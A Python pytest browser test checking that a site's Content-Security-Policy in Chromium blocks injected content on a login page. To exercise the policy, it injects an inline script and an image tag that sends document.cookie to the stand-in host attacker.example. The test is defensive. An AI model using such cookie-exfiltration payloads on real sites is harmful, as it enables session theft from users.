"""The Content-Security-Policy at work in Chromium: a script that slipped into a page (the
XSS that escaping is there to prevent) does not run."""

from __future__ import annotations

import pytest

pytestmark = pytest.mark.browser


def test_an_injected_inline_script_is_refused_by_the_browser(browser, live_server):
    context = browser.new_context()
    refused: list[str] = []
    context.on("console", lambda message: refused.append(message.text))
    page = context.new_page()
    page.goto(f"{live_server}/login")

    page.evaluate("""() => {
        const s = document.createElement("script");
        s.textContent = "window.injected = true";
        document.body.appendChild(s);
        const img = document.createElement("img");
        img.src = "https://attacker.example/steal?c=" + document.cookie;
        document.body.appendChild(img);
    }""")
    page.wait_for_timeout(200)

    assert page.evaluate("window.injected") is None
    blocked = [m for m in refused if "Content Security Policy directive" in m]
    assert any("inline script" in m and "'script-src 'self''" in m for m in blocked), refused
    assert any("https://attacker.example" in m and "img-src" in m for m in blocked), refused
    context.close()
